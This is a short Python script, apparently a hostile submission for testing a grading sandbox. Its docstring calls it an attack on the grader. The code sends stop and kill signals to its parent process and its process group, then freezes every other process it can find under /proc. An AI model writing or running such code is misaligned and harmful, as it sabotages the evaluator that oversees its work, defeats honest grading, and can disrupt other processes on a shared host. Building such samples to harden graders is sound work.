"""Attack: stop or kill the grader (the parent, its process group, every process it can see)."""
import os
import signal

for sig in (signal.SIGSTOP, signal.SIGKILL):
    for target in (os.getppid(), -os.getpgid(0)):
        try:
            os.kill(target, sig) if target > 0 else os.killpg(-target, sig)
        except OSError:
            pass
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass
